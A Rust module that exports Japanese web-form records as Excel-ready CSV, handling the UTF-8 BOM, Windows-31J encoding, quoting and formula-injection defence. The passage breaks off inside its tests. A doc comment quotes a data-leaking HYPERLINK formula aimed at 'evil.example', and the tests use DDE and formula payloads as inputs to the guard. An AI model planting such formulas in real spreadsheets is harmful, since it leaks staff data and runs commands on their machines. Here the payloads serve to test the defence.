//! CSV export of one form's records, for staff who open it in Excel (or
//! LibreOffice) and for the systems they feed it into.
//!
//! Written for that reader: UTF-8 with a BOM (without one, Excel reads
//! UTF-8 as Shift_JIS and shows mojibake) or Shift_JIS itself (Windows-31J,
//! what older municipal systems import), lines ending in CRLF, dates in ISO
//! order so a column sorts, choice labels rather than codes, and every value
//! guarded against formula injection.
//!
//! The export is streamed: [`CsvExport::header`] and then one
//! [`CsvExport::row`] per record, each returning the encoded bytes of one
//! line, so an export of 100,000 records never sits whole in memory. Like
//! the rest of the desk it never logs a value.

use std::borrow::Cow;

use encoding_rs::{EncoderResult, SHIFT_JIS};
use forms::{Field, FieldKind, FormDefinition, Lang, Value};
use serde::Deserialize;
use store::SubmissionStatus;
use time::macros::offset;
use time::OffsetDateTime;

/// The UTF-8 byte order mark: how Excel tells a UTF-8 CSV from Shift_JIS.
const BOM: &[u8] = b"\xEF\xBB\xBF";

/// 〓 (U+3013, the "geta" mark) in Shift_JIS: the customary stand-in for a
/// character that has no Shift_JIS form.
const GETA_SJIS: [u8; 2] = [0x81, 0xAC];

/// The character set of an export.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CsvEncoding {
    /// UTF-8 with a byte order mark: every character survives.
    #[default]
    Utf8Bom,
    /// Shift_JIS as Windows writes it (Windows-31J / CP932, which is what
    /// `encoding_rs::SHIFT_JIS` encodes: NEC and IBM extensions such as ①
    /// and ㈱ included). The "wave dash" set that other tables map elsewhere
    /// (〜 ‖ — ¢ £ ¬) is written as Windows writes it; any other character
    /// outside it becomes 〓.
    ShiftJis,
}

impl CsvEncoding {
    /// The `?encoding=` parameter of the download link: `utf8` or `sjis`
    /// (the common spellings `utf-8`, `shift_jis`, `cp932` too).
    pub fn from_param(s: &str) -> Option<Self> {
        match s.trim().to_ascii_lowercase().as_str() {
            "utf8" | "utf-8" => Some(CsvEncoding::Utf8Bom),
            "sjis" | "shift_jis" | "shift-jis" | "cp932" | "windows-31j" => Some(CsvEncoding::ShiftJis),
            _ => None,
        }
    }

    /// The parameter [`CsvEncoding::from_param`] reads back.
    pub fn param(self) -> &'static str {
        match self {
            CsvEncoding::Utf8Bom => "utf8",
            CsvEncoding::ShiftJis => "sjis",
        }
    }

    /// The `Content-Type` of the download.
    pub fn content_type(self) -> &'static str {
        match self {
            CsvEncoding::Utf8Bom => "text/csv; charset=utf-8",
            CsvEncoding::ShiftJis => "text/csv; charset=Shift_JIS",
        }
    }
}

/// One exported row's data, as the desk store yields it.
#[derive(Debug, Clone, Copy)]
pub struct ExportRow<'a> {
    /// 到達番号.
    pub receipt: &'a str,
    /// Unix seconds.
    pub received_at: i64,
    /// `received`, `in_review`, `completed`, `returned` or `rejected`.
    pub status: &'a str,
    pub form_version: i64,
    /// A `forms::Submission` as JSON.
    pub payload: &'a serde_json::Value,
}

/// How many columns a field takes, and which.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Layout {
    Single,
    /// Name, then its reading.
    NameKana,
    /// 郵便番号, 都道府県・市区町村, 町名・番地.
    Address,
}

impl Layout {
    fn of(field: &Field) -> Layout {
        match field.kind {
            FieldKind::Name { furigana: true } => Layout::NameKana,
            FieldKind::Address => Layout::Address,
            _ => Layout::Single,
        }
    }

    fn width(self) -> usize {
        match self {
            Layout::Single => 1,
            Layout::NameKana => 2,
            Layout::Address => 3,
        }
    }
}

/// Writes a form's records as CSV, row by row, so 100,000 records never sit
/// whole in memory.
///
/// Columns follow the definition it is made with (the form's latest
/// version): a record of an older version shows the fields both versions
/// share, and leaves the rest empty.
#[derive(Debug, Clone)]
pub struct CsvExport {
    def: FormDefinition,
    layouts: Vec<Layout>,
    encoding: CsvEncoding,
    lang: Lang,
    /// The line being built, kept to reuse its allocation.
    line: String,
    rows: u64,
    replaced: u64,
}

impl CsvExport {
    pub fn new(def: &FormDefinition, encoding: CsvEncoding, lang: Lang) -> CsvExport {
        CsvExport {
            layouts: def.fields.iter().map(Layout::of).collect(),
            def: def.clone(),
            encoding,
            lang,
            line: String::with_capacity(1024),
            rows: 0,
            replaced: 0,
        }
    }

    pub fn encoding(&self) -> CsvEncoding {
        self.encoding
    }

    /// BOM (for UTF-8) and the header row: 到達番号, 受付日時, 状況, 様式版,
    /// then one column per field with the form's label; a name with
    /// furigana and an address take one column per part.
    pub fn header(&mut self) -> Vec<u8> {
        let ja = self.lang == Lang::Ja;
        let mut line = std::mem::take(&mut self.line);
        line.clear();
        let fixed = if ja {
            ["到達番号", "受付日時", "状況", "様式版"]
        } else {
            ["Receipt number", "Received at", "Status", "Form version"]
        };
        for title in fixed {
            push_cell(&mut line, title, Guard::Off);
        }
        for (field, layout) in self.def.fields.iter().zip(&self.layouts) {
            let label = field.label.get(self.lang);
            let parts: &[(&str, &str)] = match layout {
                Layout::Single => &[],
                Layout::NameKana => &[("フリガナ", "katakana")],
                Layout::Address => &[
                    ("郵便番号", "postal code"),
                    ("都道府県・市区町村", "prefecture and city"),
                    ("町名・番地", "street address"),
                ],
            };
            if *layout == Layout::NameKana {
                push_cell(&mut line, label, Guard::Off);
            }
            for (part_ja, part_en) in parts {
                let title = if ja { format!("{label}（{part_ja}）") } else { format!("{label} ({part_en})") };
                push_cell(&mut line, &title, Guard::Off);
            }
            if *layout == Layout::Single {
                push_cell(&mut line, label, Guard::Off);
            }
        }
        end_line(&mut line);
        let mut out = Vec::with_capacity(line.len() + BOM.len());
        if self.encoding == CsvEncoding::Utf8Bom {
            out.extend_from_slice(BOM);
        }
        self.encode_into(&line, &mut out);
        self.line = line;
        out
    }

    /// One encoded CSV line (ending in CRLF) for one record.
    ///
    /// Values read as on the confirm page, except where a spreadsheet wants
    /// otherwise: dates are ISO `yyyy-mm-dd` (they sort), postal codes have
    /// no 〒 (the column says what they are), consent is 同意 / Agreed. A
    /// payload field the definition does not have is left out; a field the
    /// payload does not have is empty.
    pub fn row(&mut self, row: &ExportRow<'_>) -> Vec<u8> {
        let mut line = std::mem::take(&mut self.line);
        line.clear();
        push_cell(&mut line, row.receipt, Guard::On);
        push_cell(&mut line, &jst_minutes(row.received_at), Guard::On);
        push_cell(&mut line, status_label(row.status, self.lang), Guard::On);
        push_cell(&mut line, &row.form_version.to_string(), Guard::On);
        let values = row.payload.get("values").and_then(serde_json::Value::as_object);
        for (field, layout) in self.def.fields.iter().zip(&self.layouts) {
            match values.and_then(|v| v.get(&field.name)) {
                None => push_empty(&mut line, layout.width()),
                Some(json) => match Value::deserialize(json) {
                    Ok(value) => push_value(&mut line, &self.def, field, *layout, &value, self.lang),
                    // A value of a kind this build does not know (a newer
                    // desk's payload): shown raw rather than silently lost.
                    Err(_) => {
                        push_cell(&mut line, &json.to_string(), Guard::On);
                        push_empty(&mut line, layout.width() - 1);
                    }
                },
            }
        }
        end_line(&mut line);
        let mut out = Vec::with_capacity(line.len());
        self.encode_into(&line, &mut out);
        self.line = line;
        self.rows += 1;
        out
    }

    /// How many rows [`CsvExport::row`] has written (the header not counted).
    pub fn rows(&self) -> u64 {
        self.rows
    }

    /// Characters that had no Shift_JIS form (e.g. 𠮷, emoji) and were
    /// replaced by 〓 (U+3013), so the UI can warn. Always 0 for UTF-8.
    pub fn replaced_characters(&self) -> u64 {
        self.replaced
    }

    fn encode_into(&mut self, text: &str, out: &mut Vec<u8>) {
        match self.encoding {
            CsvEncoding::Utf8Bom => out.extend_from_slice(text.as_bytes()),
            CsvEncoding::ShiftJis => self.replaced += encode_shift_jis(text, out),
        }
    }
}

/// Appends `text` in Shift_JIS (Windows-31J) to `out`, writing 〓 for each
/// character it has no form for; returns how many were replaced.
///
/// `encoding_rs`'s own replacing encoders write an HTML numeric character
/// reference (`&#134071;`) instead, which would end up in a spreadsheet
/// cell as it is; so the encoder is driven "without replacement" and each
/// unmappable character is replaced here.
fn encode_shift_jis(text: &str, out: &mut Vec<u8>) -> u64 {
    let mut encoder = SHIFT_JIS.new_encoder();
    let mut buf = [0u8; 1024];
    let mut src = text;
    let mut replaced = 0;
    loop {
        let (result, read, written) = encoder.encode_from_utf8_without_replacement(src, &mut buf, true);
        out.extend_from_slice(&buf[..written]);
        src = &src[read..];
        match result {
            EncoderResult::InputEmpty => return replaced,
            EncoderResult::OutputFull => {}
            EncoderResult::Unmappable(c) => match cp932_equivalent(c) {
                Some(same) => {
                    replaced += encode_shift_jis(same.encode_utf8(&mut [0; 4]), out);
                }
                None => {
                    out.extend_from_slice(&GETA_SJIS);
                    replaced += 1;
                }
            },
        }
    }
}

/// The Windows-31J form of a character that other Japanese encodings (JIS
/// X 0208 as Unicode's and Apple's tables map it) write as a different code
/// point: the well-known "wave dash" set. 〜 (U+301C) is what macOS and iOS
/// input methods type, and NFKC at intake turns ￠ ￡ ￢ into ¢ £ ¬, none of
/// which `encoding_rs` maps; without this they would all become 〓.
fn cp932_equivalent(c: char) -> Option<char> {
    Some(match c {
        '\u{301C}' => '\u{FF5E}', // 〜 WAVE DASH → ～
        '\u{2016}' => '\u{2225}', // ‖ DOUBLE VERTICAL LINE → ∥
        '\u{2014}' => '\u{2015}', // — EM DASH → ―
        '\u{00A2}' => '\u{FFE0}', // ¢ → ￠
        '\u{00A3}' => '\u{FFE1}', // £ → ￡
        '\u{00AC}' => '\u{FFE2}', // ¬ → ￢
        _ => return None,
    })
}

/// Whether a cell gets the formula-injection guard.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Guard {
    /// Header cells: the form's own labels, written by its administrators.
    Off,
    /// Every value cell: written (in the end) by whoever filled in the form.
    On,
}

/// Appends one cell and its separator, quoted per RFC 4180 when it holds a
/// comma, a quote, CR or LF (quotes doubled; any line break written as CRLF
/// inside the quotes, as Excel writes one).
///
/// Formula injection ("CSV injection"): Excel and LibreOffice read a cell
/// starting with `=`, `+`, `-` or `@` as a formula, and a leading TAB or CR
/// is skipped before that check. A resident could thus type
/// `=HYPERLINK("http://evil.example/?"&A1, "…")` or a DDE command and have
/// it run, with the staff member's rights and data, when staff open the
/// export. A leading `'` makes the cell plain text in both programs, so
/// every value cell that starts with one of those characters gets one.
/// (A negative number reads `'-5`: the price of a guard that cannot be
/// argued around.)
fn push_cell(line: &mut String, value: &str, guard: Guard) {
    let inject = guard == Guard::On && value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let quote = value.contains([',', '"', '\r', '\n']);
    if quote {
        line.push('"');
    }
    if inject {
        line.push('\'');
    }
    if quote {
        let mut chars = value.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' => line.push_str("\"\""),
                '\r' => {
                    chars.next_if_eq(&'\n');
                    line.push_str("\r\n");
                }
                '\n' => line.push_str("\r\n"),
                c => line.push(c),
            }
        }
        line.push('"');
    } else {
        line.push_str(value);
    }
    line.push(',');
}

fn push_empty(line: &mut String, cells: usize) {
    for _ in 0..cells {
        line.push(',');
    }
}

/// Replaces the separator after the last cell with CRLF.
fn end_line(line: &mut String) {
    if line.ends_with(',') {
        line.pop();
    }
    line.push_str("\r\n");
}

/// A small table made on the desk (the survey results' counts) as a whole
/// CSV file in `encoding`: the same framing as an export (BOM, CRLF), and
/// every cell guarded against formula injection as an export's values are,
/// since option labels, too, end up in a spreadsheet.
pub(crate) fn encode_cells<R: AsRef<[String]>>(rows: &[R], encoding: CsvEncoding) -> Vec<u8> {
    let mut text = String::new();
    for row in rows {
        for cell in row.as_ref() {
            push_cell(&mut text, cell, Guard::On);
        }
        end_line(&mut text);
    }
    let mut out = Vec::with_capacity(text.len() + BOM.len());
    match encoding {
        CsvEncoding::Utf8Bom => {
            out.extend_from_slice(BOM);
            out.extend_from_slice(text.as_bytes());
        }
        CsvEncoding::ShiftJis => {
            encode_shift_jis(&text, &mut out);
        }
    }
    out
}

/// The cells of one field's value: one per part for a name with furigana
/// and an address. A value whose shape does not fit the field (the field
/// changed kind between versions) goes whole into the first cell.
fn push_value(line: &mut String, def: &FormDefinition, field: &Field, layout: Layout, value: &Value, lang: Lang) {
    match (layout, value) {
        (Layout::NameKana, Value::Name { name, kana }) => {
            push_cell(line, name, Guard::On);
            push_cell(line, kana.as_deref().unwrap_or(""), Guard::On);
        }
        (Layout::Address, Value::Address { postal, region, line: street }) => {
            push_cell(line, postal, Guard::On);
            push_cell(line, region, Guard::On);
            push_cell(line, street, Guard::On);
        }
        _ => {
            push_cell(line, &single_cell(def, field, value, lang), Guard::On);
            push_empty(line, layout.width() - 1);
        }
    }
}

fn single_cell<'v>(def: &FormDefinition, field: &Field, value: &'v Value, lang: Lang) -> Cow<'v, str> {
    let ja = lang == Lang::Ja;
    match value {
        // Stored ISO (`2026-11-25`), stored `123-4567`: as they are.
        Value::Text(s) | Value::Email(s) | Value::Date(s) | Value::PostalCode(s) | Value::Slot(s) => Cow::Borrowed(s),
        Value::Consent(true) => Cow::Borrowed(if ja { "同意" } else { "Agreed" }),
        Value::Consent(false) => Cow::Borrowed(if ja { "同意しない" } else { "Not agreed" }),
        // Choice labels (several joined with 、), phone with hyphens, numbers
        // without `.0`, a name with its reading in brackets.
        other => Cow::Owned(def.display_value(field, other, lang)),
    }
}

/// `2026-11-25 19:27` in Japan time (no daylight saving, ever); a time
/// outside what `time` can represent is written as the raw number.
fn jst_minutes(unix: i64) -> String {
    match OffsetDateTime::from_unix_timestamp(unix) {
        Ok(t) => {
            let t = t.to_offset(offset!(+9));
            format!("{:04}-{:02}-{:02} {:02}:{:02}", t.year(), u8::from(t.month()), t.day(), t.hour(), t.minute())
        }
        Err(_) => unix.to_string(),
    }
}

/// 受付 / 審査中 / 完了 / 差戻し / 却下 (the same labels as the rest of the
/// service); an unknown status as it is stored.
fn status_label(status: &str, lang: Lang) -> &str {
    match SubmissionStatus::parse(status) {
        Some(s) if lang == Lang::Ja => s.label_ja(),
        Some(s) => s.label_en(),
        None => status,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use forms::RawInput;
    use time::macros::{date, datetime};
    use time::Date;

    const TODAY: Date = date!(2026 - 11 - 25);

    /// Every kind with parts, and the kinds whose rendering differs from
    /// the stored value.
    const FORM: &str = r#"
id = "export-test"
title = { ja = "書き出し試験", en = "Export test" }

[[fields]]
name = "applicant"
type = "name"
label = { ja = "氏名", en = "Name" }
required = true

[[fields]]
name = "home"
type = "address"
label = { ja = "住所", en = "Address" }

[[fields]]
name = "email"
type = "email"
label = { ja = "メールアドレス", en = "E-mail" }
confirm = true

[[fields]]
name = "plan"
type = "choice"
label = { ja = "プラン", en = "Plan" }
options = [
  { value = "std", label = { ja = "標準", en = "Standard" } },
  { value = "sp", label = { ja = "特別", en = "Special" } },
]

[[fields]]
name = "certs"
type = "choice"
multiple = true
label = { ja = "必要な証明書", en = "Certificates" }
options = [
  { value = "income", label = { ja = "所得証明書", en = "Income" } },
  { value = "paid", label = { ja = "納税証明書", en = "Tax paid" } },
]

[[fields]]
name = "start"
type = "date"
label = { ja = "開始日", en = "Start date" }

[[fields]]
name = "phone"
type = "phone"
label = { ja = "電話番号", en = "Phone" }

[[fields]]
name = "amount"
type = "number"
label = { ja = "数量", en = "Amount" }

[[fields]]
name = "notes"
type = "text"
multiline = true
label = { ja = "連絡事項", en = "Notes" }

[[fields]]
name = "agree"
type = "consent"
label = { ja = "個人情報の取扱い", en = "Personal information" }
statement = { ja = "同意します。", en = "I agree." }
"#;

    fn form() -> FormDefinition {
        FormDefinition::parse(FORM).expect("test form parses")
    }

    /// A payload exactly as the counter seals it.
    fn payload(def: &FormDefinition, pairs: &[(&str, &str)]) -> serde_json::Value {
        let submission = def.validate(&RawInput::from_pairs(pairs.iter().copied()), TODAY).expect("valid input");
        serde_json::to_value(&submission).expect("json")
    }

    fn full_input() -> Vec<(&'static str, &'static str)> {
        vec![
            ("applicant", "山田 太郎"),
            ("applicant.kana", "やまだ たろう"),
            ("home.postal", "1000001"),
            ("home.region", "東京都千代田区"),
            ("home.line", "千代田1-1"),
            ("email", "taro@example.jp"),
            ("email.confirm", "taro@example.jp"),
            ("plan", "sp"),
            ("certs", "paid"),
            ("certs", "income"),
            ("start", "令和8年12月1日"),
            ("phone", "0312345678"),
            ("amount", "12"),
            ("notes", "一行目\r\n二行目"),
            ("agree", "yes"),
        ]
    }

    /// 2026-11-25 19:27 in Japan.
    fn received_at() -> i64 {
        datetime!(2026-11-25 19:27:41 +9).unix_timestamp()
    }

    fn record<'a>(payload: &'a serde_json::Value, status: &'a str) -> ExportRow<'a> {
        ExportRow { receipt: "2026-000123", received_at: received_at(), status, form_version: 3, payload }
    }

    /// Decodes a whole export, checking the encoding's framing (BOM or not).
    fn decode(bytes: &[u8], encoding: CsvEncoding) -> String {
        match encoding {
            CsvEncoding::Utf8Bom => {
                let body = bytes.strip_prefix(BOM).expect("UTF-8 export starts with the BOM");
                String::from_utf8(body.to_vec()).expect("valid UTF-8")
            }
            CsvEncoding::ShiftJis => {
                assert!(!bytes.starts_with(BOM), "no BOM in Shift_JIS");
                SHIFT_JIS
                    .decode_without_bom_handling_and_without_replacement(bytes)
                    .expect("valid Shift_JIS")
                    .into_owned()
            }
        }
    }

    /// A strict RFC 4180 reader: every line ends in CRLF, a quote may only
    /// open or close a field (or be doubled inside one), and a bare CR or
    /// LF outside quotes is an error.
    fn parse_csv(text: &str) -> Vec<Vec<String>> {
        let mut rows = Vec::new();
        let mut row = Vec::new();
        let mut cell = String::new();
        let mut chars = text.chars().peekable();
        let mut at_cell_start = true;
        while let Some(c) = chars.next() {
            match c {
                '"' if at_cell_start => {
                    loop {
                        match chars.next().expect("unterminated quoted field") {
                            '"' if chars.next_if_eq(&'"').is_some() => cell.push('"'),
                            '"' => break,
                            c => cell.push(c),
                        }
                    }
                    assert!(matches!(chars.peek(), Some(',') | Some('\r')), "text after a closing quote");
                    at_cell_start = false;
                }
                '"' => panic!("quote inside an unquoted field: {cell:?}"),
                ',' => {
                    row.push(std::mem::take(&mut cell));
                    at_cell_start = true;
                }
                '\r' => {
                    assert_eq!(chars.next(), Some('\n'), "bare CR");
                    row.push(std::mem::take(&mut cell));
                    rows.push(std::mem::take(&mut row));
                    at_cell_start = true;
                }
                '\n' => panic!("bare LF"),
                c => {
                    cell.push(c);
                    at_cell_start = false;
                }
            }
        }
        assert!(row.is_empty() && cell.is_empty(), "the last line must end with CRLF");
        rows
    }

    fn export(
        def: &FormDefinition,
        encoding: CsvEncoding,
        lang: Lang,
        rows: &[ExportRow<'_>],
    ) -> (Vec<Vec<String>>, CsvExport) {
        let mut export = CsvExport::new(def, encoding, lang);
        let mut bytes = export.header();
        for row in rows {
            bytes.extend(export.row(row));
        }
        (parse_csv(&decode(&bytes, encoding)), export)
    }

    #[test]
    fn header_names_every_column_in_both_languages() {
        let def = form();
        let cases = [
            (
                Lang::Ja,
                vec![
                    "到達番号",
                    "受付日時",
                    "状況",
                    "様式版",
                    "氏名",
                    "氏名（フリガナ）",
                    "住所（郵便番号）",
                    "住所（都道府県・市区町村）",
                    "住所（町名・番地）",
                    "メールアドレス",
                    "プラン",
                    "必要な証明書",
                    "開始日",
                    "電話番号",
                    "数量",
                    "連絡事項",
                    "個人情報の取扱い",
                ],
            ),
            (
                Lang::En,
                vec![
                    "Receipt number",
                    "Received at",
                    "Status",
                    "Form version",
                    "Name",
                    "Name (katakana)",
                    "Address (postal code)",
                    "Address (prefecture and city)",
                    "Address (street address)",
                    "E-mail",
                    "Plan",
                    "Certificates",
                    "Start date",
                    "Phone",
                    "Amount",
                    "Notes",
                    "Personal information",
                ],
            ),
        ];
        for (lang, want) in cases {
            for encoding in [CsvEncoding::Utf8Bom, CsvEncoding::ShiftJis] {
                let (rows, _) = export(&def, encoding, lang, &[]);
                assert_eq!(rows, vec![want.clone()], "{lang:?} {encoding:?}");
            }
        }
    }

    #[test]
    fn a_name_without_furigana_takes_one_column() {
        let def = FormDefinition::parse(
            r#"
id = "short"
title = { ja = "短い" }
[[fields]]
name = "who"
type = "name"
furigana = false
label = { ja = "お名前" }
"#,
        )
        .expect("parses");
        let (rows, _) = export(&def, CsvEncoding::Utf8Bom, Lang::Ja, &[]);
        assert_eq!(rows[0][4..], ["お名前"]);
    }

    #[test]
    fn a_row_reads_like_the_confirm_page_but_sorts_like_a_spreadsheet() {
        let def = form();
        let payload = payload(&def, &full_input());
        let cases = [
            (
                Lang::Ja,
                vec![
                    "2026-000123",
                    "2026-11-25 19:27",
                    "審査中",
                    "3",
                    "山田 太郎",
                    "ヤマダ タロウ",
                    "100-0001",
                    "東京都千代田区",
                    "千代田1-1",
                    "taro@example.jp",
                    "特別",
                    "所得証明書、納税証明書",
                    "2026-12-01",
                    "03-1234-5678",
                    "12",
                    "一行目\r\n二行目",
                    "同意",
                ],
            ),
            (
                Lang::En,
                vec![
                    "2026-000123",
                    "2026-11-25 19:27",
                    "Under review",
                    "3",
                    "山田 太郎",
                    "ヤマダ タロウ",
                    "100-0001",
                    "東京都千代田区",
                    "千代田1-1",
                    "taro@example.jp",
                    "Special",
                    "Income, Tax paid",
                    "2026-12-01",
                    "03-1234-5678",
                    "12",
                    "一行目\r\n二行目",
                    "Agreed",
                ],
            ),
        ];
        for (lang, want) in cases {
            for encoding in [CsvEncoding::Utf8Bom, CsvEncoding::ShiftJis] {
                let (rows, export) = export(&def, encoding, lang, &[record(&payload, "in_review")]);
                assert_eq!(rows.len(), 2, "{lang:?} {encoding:?}");
                assert_eq!(rows[1], want, "{lang:?} {encoding:?}");
                assert_eq!(rows[1].len(), rows[0].len());
                assert_eq!(export.rows(), 1);
                assert_eq!(export.replaced_characters(), 0);
            }
        }
    }

    #[test]
    fn status_labels() {
        let def = form();
        let payload = payload(&def, &[("applicant", "山田"), ("applicant.kana", "ヤマダ")]);
        let cases = [
            ("received", "受付", "Received"),
            ("in_review", "審査中", "Under review"),
            ("completed", "完了", "Completed"),
            ("returned", "差戻し", "Returned for correction"),
            ("rejected", "却下", "Rejected"),
            ("archived", "archived", "archived"),
        ];
        for (status, ja, en) in cases {
            for (lang, want) in [(Lang::Ja, ja), (Lang::En, en)] {
                let (rows, _) = export(&def, CsvEncoding::Utf8Bom, lang, &[record(&payload, status)]);
                assert_eq!(rows[1][2], want, "{status} {lang:?}");
            }
        }
    }

    #[test]
    fn received_at_is_japan_time_to_the_minute() {
        let def = form();
        let payload = payload(&def, &[("applicant", "山田"), ("applicant.kana", "ヤマダ")]);
        let cases = [
            (datetime!(2026-11-25 10:27:59 UTC).unix_timestamp(), "2026-11-25 19:27"),
            // 15:00 UTC is already the next day in Japan.
            (datetime!(2026-12-31 15:00 UTC).unix_timestamp(), "2027-01-01 00:00"),
            (0, "1970-01-01 09:00"),
            (i64::MAX, "9223372036854775807"),
        ];
        for (unix, want) in cases {
            let row = ExportRow { received_at: unix, ..record(&payload, "received") };
            let (rows, _) = export(&def, CsvEncoding::Utf8Bom, Lang::Ja, &[row]);
            assert_eq!(rows[1][1], want, "{unix}");
        }
    }

    #[test]
    fn utf8_starts_with_the_bom_once_and_keeps_every_character() {
        let def = form();
        let payload = payload(&def, &[("applicant", "𠮷田 花子"), ("applicant.kana", "ヨシダ"), ("notes", "🙂 ①")]);
        let mut export = CsvExport::new(&def, CsvEncoding::Utf8Bom, Lang::Ja);
        let header = export.header();
        let line = export.row(&record(&payload, "received"));
        assert!(header.starts_with(BOM));
        assert!(!line.starts_with(BOM), "the BOM opens the file, not each row");
        let rows = parse_csv(&decode(&[header, line].concat(), CsvEncoding::Utf8Bom));
        assert_eq!(rows[1][4], "𠮷田 花子");
        assert_eq!(rows[1][15], "🙂 1", "NFKC at intake made ① a 1");
        assert_eq!(export.replaced_characters(), 0);
    }

    #[test]
    fn shift_jis_is_windows_31j() {
        // Bytes as Windows (CP932) writes them; a few of these are not in
        // plain JIS X 0208 Shift_JIS.
        let cases: [(&str, &[u8]); 8] = [
            ("あ", &[0x82, 0xA0]),
            ("ｱ", &[0xB1]),
            ("①", &[0x87, 0x40]),
            ("㈱", &[0x87, 0x8A]),
            ("～", &[0x81, 0x60]),
            ("髙", &[0xFB, 0xFC]),
            ("〓", &GETA_SJIS),
            ("A,\r\n", b"A,\r\n"),
        ];
        for (text, want) in cases {
            let mut out = Vec::new();
            assert_eq!(encode_shift_jis(text, &mut out), 0, "{text}");
            assert_eq!(out, want, "{text}");
        }
    }

    #[test]
    fn the_wave_dash_set_is_written_as_windows_writes_it_not_as_geta() {
        let cases: [(&str, &[u8], &str); 6] = [
            ("〜", &[0x81, 0x60], "～"),
            ("‖", &[0x81, 0x61], "∥"),
            ("—", &[0x81, 0x5C], "―"),
            ("¢", &[0x81, 0x91], "￠"),
            ("£", &[0x81, 0x92], "￡"),
            ("¬", &[0x81, 0xCA], "￢"),
        ];
        for (text, want, reads_back) in cases {
            let mut out = Vec::new();
            assert_eq!(encode_shift_jis(text, &mut out), 0, "{text}");
            assert_eq!(out, want, "{text}");
            let (back, _, bad) = SHIFT_JIS.decode(&out);
            assert!(!bad);
            assert_eq!(back, reads_back, "{text}");
        }
        // Through intake (NFKC makes ￠ a ¢) and out again.
        let def = form();
        let payload = payload(&def, &[("applicant", "山田"), ("applicant.kana", "ヤマダ"), ("notes", "9時〜12時 ￠")]);
        let (rows, export) = export(&def, CsvEncoding::ShiftJis, Lang::Ja, &[record(&payload, "received")]);
        assert_eq!(rows[1][15], "9時～12時 ￠");
        assert_eq!(export.replaced_characters(), 0);
    }

    #[test]
    fn shift_jis_decodes_back_to_the_same_text() {
        // Labels are not normalised, so Windows-31J extras reach the header.
        let src = FORM.replace("\"連絡事項\"", "\"①連絡事項（㈱・髙橋）\"");
        let def = FormDefinition::parse(&src).expect("parses");
        let payload = payload(&def, &full_input());
        let (sjis, _) = export(&def, CsvEncoding::ShiftJis, Lang::Ja, &[record(&payload, "completed")]);
        let (utf8, _) = export(&def, CsvEncoding::Utf8Bom, Lang::Ja, &[record(&payload, "completed")]);
        assert_eq!(sjis, utf8);
        assert_eq!(sjis[0][15], "①連絡事項（㈱・髙橋）");
    }

    #[test]
    fn characters_without_a_shift_jis_form_become_geta_and_are_counted() {
        let def = form();
        let cases = [
            (vec![("applicant", "𠮷田"), ("applicant.kana", "ヨシダ")], "〓田", "", 1),
            (
                vec![("applicant", "山田"), ("applicant.kana", "ヤマダ"), ("notes", "🙂よろしく🙏")],
                "山田",
                "〓よろしく〓",
                2,
            ),
        ];
        for (input, name, notes, replaced) in cases {
            let payload = payload(&def, &input);
            let (rows, export) = export(&def, CsvEncoding::ShiftJis, Lang::Ja, &[record(&payload, "received")]);
            assert_eq!(rows[1][4], name);
            assert_eq!(rows[1][15], notes);
            assert_eq!(export.replaced_characters(), replaced, "{name} {notes}");
        }
    }

    #[test]
    fn the_replacement_count_adds_up_over_rows() {
        let def = form();
        let payload = payload(&def, &[("applicant", "𠮷田"), ("applicant.kana", "ヨシダ")]);
        let mut export = CsvExport::new(&def, CsvEncoding::ShiftJis, Lang::Ja);
        export.header();
        for _ in 0..3 {
            let line = export.row(&record(&payload, "received"));
            assert!(!line.windows(2).any(|w| w == b"&#"), "no HTML character references");
        }
        assert_eq!(export.replaced_characters(), 3);
        assert_eq!(export.rows(), 3);
    }

    #[test]
    fn commas_quotes_and_line_breaks_round_trip() {
        let def = form();
        let cases = [
            ("a,b", "a,b", "\"a,b\""),
            ("彼は\"はい\"と言った", "彼は\"はい\"と言った", "\"彼は\"\"はい\"\"と言った\""),
            ("一行目\n二行目", "一行目\r\n二行目", "\"一行目\r\n二行目\""),
            ("一\r\n\r\n三", "一\r\n\r\n三", "\"一\r\n\r\n三\""),
            ("\"引用\"\n,", "\"引用\"\r\n,", "\"\"\"引用\"\"\r\n,\""),
            ("普通の文", "普通の文", "普通の文"),
        ];
        for (typed, cell, raw) in cases {
            let payload = payload(&def, &[("applicant", "山田"), ("applicant.kana", "ヤマダ"), ("notes", typed)]);
            let mut export = CsvExport::new(&def, CsvEncoding::Utf8Bom, Lang::Ja);
            let line = String::from_utf8(export.row(&record(&payload, "received"))).expect("utf-8");
            assert!(line.contains(&format!(",{raw},")), "{typed:?} written as {raw:?} in {line:?}");
            assert_eq!(parse_csv(&line)[0][15], cell, "{typed:?}");
        }
    }

    #[test]
    fn cells_are_quoted_only_when_needed() {
        let cases = [
            ("", ","),
            ("abc", "abc,"),
            ("a b", "a b,"),
            ("a,b", "\"a,b\","),
            ("a\"b", "\"a\"\"b\","),
            ("a\rb", "\"a\r\nb\","),
            ("a\nb", "\"a\r\nb\","),
            ("a\r\nb", "\"a\r\nb\","),
        ];
        for (value, want) in cases {
            let mut line = String::new();
            push_cell(&mut line, value, Guard::On);
            assert_eq!(line, want, "{value:?}");
        }
    }

    #[test]
    fn formulas_are_defused_in_every_value_cell() {
        let cases = [
            ("=1+1", "'=1+1"),
            ("+81 3 1234 5678", "'+81 3 1234 5678"),
            ("-5", "'-5"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r\n=1"),
            ("=HYPERLINK(\"http://x.example/\",\"a,b\")", "'=HYPERLINK(\"http://x.example/\",\"a,b\")"),
            ("1+1", "1+1"),
            ("a=b", "a=b"),
            ("‐全角ハイフンではない", "‐全角ハイフンではない"),
        ];
        for (value, want) in cases {
            let mut line = String::new();
            push_cell(&mut line, value, Guard::On);
            assert_eq!(parse_csv(&format!("{}\r\n", &line[..line.len() - 1]))[0][0], want, "{value:?}");
        }
    }

    #[test]
    fn formulas_typed_into_a_form_are_defused_but_labels_are_not_touched() {
        let src = FORM.replace("\"連絡事項\"", "\"-連絡事項\"");
        let def = FormDefinition::parse(&src).expect("parses");
        let input = [
            ("applicant", "=cmd|' /C calc'!A0"),
            ("applicant.kana", "ヤマダ"),
            ("home.postal", "1000001"),
            ("home.region", "@東京都"),
            ("home.line", "+千代田1-1"),
            ("amount", "-3"),
